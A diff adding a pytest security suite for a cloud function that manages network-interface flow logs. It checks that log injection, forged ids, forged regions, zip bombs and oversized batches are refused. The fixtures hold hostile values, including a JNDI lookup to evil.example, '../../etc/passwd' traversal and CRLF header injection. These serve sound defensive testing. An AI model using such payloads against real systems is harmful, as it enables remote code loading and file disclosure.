@@ -1,0 +1,248 @@
+"""What somebody sends who means harm: into the log, into memory, into paths, filters, hosts. Refused, and accounted for."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+import tracemalloc
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from localcloud.faults import error
+from tests.support import records
+from tests.support.function import Function, outcomes
+from tests.support.records import REGION
+
+if TYPE_CHECKING:
+    from localcloud import LocalCloud
+
+CREATE, LOOK = "CreateFlowLog", "DescribeNetworkInterfaces"
+HUGE = 10_000
+"""As many events as no trigger of the platform ever delivers at once."""
+
+INJECTIONS = {
+    "a line": 'x\n{"level":"ERROR","message":"dead letter","dead_letter":{}}',
+    "carriage return": "x\r\nlevel=INFO message=report",
+    "ANSI": "\x1b[2J\x1b[31mall is well\x1b[0m",
+    "JSON": '","message":"report","outcomes":{"created":1},"x":"',
+    "line separators": "a\u2028b\u2029c\u0085d\x0b\x0c",
+    "right to left": "\u202egnp.exe",
+    "NUL": "a\x00b",
+    "surrogate": "a\ud800b",
+    "SQL of the log": 'x" | select * from log where "1"="1',
+    "format": "%s %n {0.__class__} ${jndi:ldap://evil.example/a}",
+}
+FORGED_IDS = (
+    "eni-../../etc/passwd",
+    "eni-78ysaex1/../../x",
+    "eni-78ysaex1\n",
+    "eni-78ysaex1?Action=DeleteFlowLog",
+    "eni-78ysaex1&Limit=1",
+    'eni-78ysaex1","Filters":[]',
+    "eni-*",
+    "eni-%2e%2e",
+    "http://evil.example/eni-78ysaex1",
+    "ENI-78YSAEX1",
+    "eni-" + "a" * 10_000,
+    "eni-７８ysaex1",
+    "",
+)
+FORGED_REGIONS = (
+    "evil.example",
+    "ap-guangzhou.evil.example",
+    "ap-guangzhou@evil.example",
+    "evil.example/",
+    "127.0.0.1:80",
+    "ap-guangzhou\r\nX-TC-Token: x",
+    "ap-guangzhou\n",
+    "../ap-guangzhou",
+    "ap-guangzhou#",
+    "AP-GUANGZHOU",
+    "ap-" + "g" * 300,
+    "-",
+)
+
+
+def read_lines(function: Function) -> list[dict[str, Any]]:
+    """The log, held against its promise: a JSON object of plain ASCII in each line."""
+    text = function.log.getvalue()
+    assert text.isascii()
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", text)
+    lines = [json.loads(line) for line in text.split("\n")[:-1]]
+    assert all(isinstance(line, dict) for line in lines)
+    return lines
+
+
+# Into the log ---------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
+def test_the_log_stays_one_json_line_each(function: Function, text: str) -> None:
+    """Whatever names, ids and messages hold: no line of somebody else's, and as many lines as there are letters."""
+    hostile = [
+        records.created(eventName=text),
+        records.created(responseElements=json.dumps({"NetworkInterface": {"NetworkInterfaceId": text}})),
+        records.created(eventTime=[text], resourceName=text),
+        records.cloud_event(records.created(eventTime=[text]), id=text, subject=text, **{text: text}),
+        records.interface_event(interface_id=text),
+        records.ensure({"region": text, "interface_id": text}),
+        text,
+        {text: text},
+    ]
+    report = function(records.event_list(*hostile))
+    assert (report["received"], outcomes(report)) == (8, {"ignored": 1, "dead_lettered": 7})
+    lines = read_lines(function)
+    assert [line["message"] for line in lines] == ["dead letter"] * 7 + ["report"]
+    assert lines[-1]["outcomes"] == report["outcomes"]
+    assert len(function.letters()) == 7
+    assert all(body.isascii() for body in function.cloud.messages("eni-flowlog-dlq"))
+
+
+@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
+def test_the_cloud_s_own_words_are_not_trusted_either(function: Function, cloud: LocalCloud, text: str) -> None:
+    """An error's code and message are data like all else."""
+    interface_id = cloud.seed_interface(REGION, instance_id=cloud.seed_instance(REGION))
+    cloud.faults.add(CREATE, error("Bad." + text.encode("ascii", "ignore").decode(), text.replace("\ud800", "")))
+    report = function(records.created(interface_id, cloud.network_of(REGION)[0]))
+    assert outcomes(report) == {"dead_lettered": 1}
+    assert [line["message"] for line in read_lines(function)] == ["dead letter", "report"]
+    assert len(function.letters()) == 1
+
+
+def test_the_request_id_of_the_platform_is_data_too(function: Function) -> None:
+    """It stands in each line."""
+    function.run(5, {"time_limit_in_ms": 5_000, "request_id": 'x"}\n{"message":"report"}', "function_name": "a\nb"})
+    assert [line["message"] for line in read_lines(function)] == ["dead letter", "report"]
+
+
+# Into paths, filters and hosts ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("ident", FORGED_IDS)
+def test_an_id_is_used_for_nothing_before_its_form_is_checked(function: Function, ident: str) -> None:
+    """Refused wherever an id may stand, with no call made."""
+    named = json.dumps({"NetworkInterfaceId": ident, "Region": REGION})
+    reply = {"NetworkInterface": {"NetworkInterfaceId": "eni-78ysaex1", "VpcId": ident or "vpc-"}}
+    hostile = [
+        records.created(ident, responseElements=json.dumps({"NetworkInterface": {"NetworkInterfaceId": ident}})),
+        records.created(responseElements=json.dumps(reply)),
+        records.attached(requestParameters=named),
+        records.run_instances(ident),
+        records.interface_event(interface_id=ident),
+        records.ensure({"region": REGION, "interface_id": ident}),
+        records.own_letter(interface={"region": REGION, "interface_id": ident}),
+        {"command": "backfill", "vpc_ids": [ident]},
+        {"command": "backfill", "after": ident or "eni"},
+    ]
+    report = function(records.event_list(*hostile))
+    assert outcomes(report) == {"dead_lettered": len(hostile)}
+    assert function.calls() == []
+
+
+@pytest.mark.parametrize("region", FORGED_REGIONS)
+def test_a_region_is_no_host(function: Function, region: str) -> None:
+    """Refused wherever a region may stand, with no call made."""
+    hostile = [
+        records.created(region=region),
+        records.attached(region=region),
+        records.run_instances("ins-8dn9vdif", region=region),
+        records.interface_event(region=region),
+        records.ensure({"region": region, "interface_id": "eni-78ysaex1"}),
+        records.own_letter(interface={"region": region, "interface_id": "eni-78ysaex1"}),
+        {"command": "status", "regions": [region]},
+        {"command": "backfill", "regions": [REGION, region]},
+    ]
+    report = function(records.event_list(*hostile))
+    assert outcomes(report) == {"dead_lettered": len(hostile)}
+    assert function.calls() == []
+
+
+def test_a_region_that_does_not_exist_goes_to_the_same_host(function: Function, cloud: LocalCloud) -> None:
+    """Its form is right: the cloud itself refuses it, at the one address that the settings name."""
+    report = function(records.created(region="ap-nowhere"))
+    assert outcomes(report) == {"dead_lettered": 1}
+    assert function.letters()[0]["error"]["code"] == "UnsupportedRegion"
+    assert {call.region for call in cloud.calls.of(CREATE)} == {"ap-nowhere"}
+
+
+def test_a_name_does_not_change_the_call(function: Function, cloud: LocalCloud) -> None:
+    """Nothing of a record gets into the call but ids and the region."""
+    interface_id = cloud.seed_interface(REGION, instance_id=cloud.seed_instance(REGION))
+    vpc_id = cloud.network_of(REGION)[0]
+    hostile = records.created(interface_id, vpc_id, tags={"FlowLogName": "x", "TrafficType": "ACCEPT"}, FlowLogName="x")
+    assert outcomes(function({**records.cloud_event(hostile), "FlowLogName": "x"})) == {"created": 1}
+    (call,) = cloud.calls.of(CREATE)
+    assert call.params == {
+        "FlowLogName": f"auto-{interface_id}",
+        "ResourceType": "NETWORKINTERFACE",
+        "ResourceId": interface_id,
+        "TrafficType": "ALL",
+        "VpcId": vpc_id,
+        "FlowLogDescription": "managed-by=eni-flowlog",
+        "StorageType": "cls",
+        "CloudLogId": cloud.topic_id,
+    }
+
+
+# Into memory ----------------------------------------------------------------------------------------------------------
+
+
+def timed(function: Function, event: Any, seconds: float) -> dict[str, Any]:
+    """Run it, and hold it against the time."""
+    started = time.monotonic()
+    report = function(event, seconds=60.0)
+    assert time.monotonic() - started < seconds
+    return report
+
+
+def test_ten_thousand_events_of_one_interface(function: Function, cloud: LocalCloud) -> None:
+    """One call, ten thousand outcomes, a report that SCF can return (6 MB), and memory for no more than that."""
+    interface_id = cloud.seed_interface(REGION, instance_id=cloud.seed_instance(REGION))
+    event = records.cloud_event(records.created(interface_id, cloud.network_of(REGION)[0]))
+    batch = records.event_list(*[event] * HUGE)
+    tracemalloc.start()
+    try:
+        report = timed(function, batch, 60.0)
+        assert tracemalloc.get_traced_memory()[1] < 32_000_000
+    finally:
+        tracemalloc.stop()
+    assert outcomes(report) == {"created": 1, "covered": HUGE - 1}
+    assert function.calls() == [CREATE]
+    assert len(json.dumps(report)) < 6_000_000
+
+
+def test_ten_thousand_interfaces(function: Function, cloud: LocalCloud) -> None:
+    """Which are covered as far as the time goes; the rest is on the queue, or the platform keeps the event."""
+    vpc_id = cloud.network_of(REGION)[0]
+    interfaces = cloud.seed_interfaces(REGION, 300)
+    batch = [records.created(each, vpc_id) for each in interfaces]
+    batch += [records.record("RunCommand")] * (HUGE - 600)
+    batch += [records.created(eventTime=["x"])] * 300
+    report = timed(function, records.event_list(*batch), 20.0)
+    assert outcomes(report) == {"created": 300, "ignored": HUGE - 600, "dead_lettered": 300}
+    assert len(function.letters()) == 300
+    assert len([item for item in report["items"] if item["outcome"] == "dead_lettered"]) == 300
+
+
+def test_a_batch_of_bombs(function: Function) -> None:
+    """Forty CLS payloads that unzip to more than an event may hold: each is refused, and none is kept."""
+    bomb = records.zipped(bytes(8_000_000))
+    tracemalloc.start()
+    try:
+        report = timed(function, records.event_list(*[bomb] * 40), 20.0)
+        assert tracemalloc.get_traced_memory()[1] < 40_000_000
+    finally:
+        tracemalloc.stop()
+    assert outcomes(report) == {"dead_lettered": 40}
+    assert {letter["error"]["message"] for letter in function.letters()} == {
+        "$.clslogs.data: unzips to more than 6291456 bytes"
+    }
+
+
+def test_one_payload_that_says_ten_thousand_instances(function: Function) -> None:
+    """A forged RunInstances: looked for side by side in fives, and all of them accounted for in time."""
+    ids = [f"ins-{number:08d}" for number in range(HUGE)]
+    report = function(records.run_instances(*ids), seconds=4.0)
+    assert outcomes(report) == {"dead_lettered": HUGE}
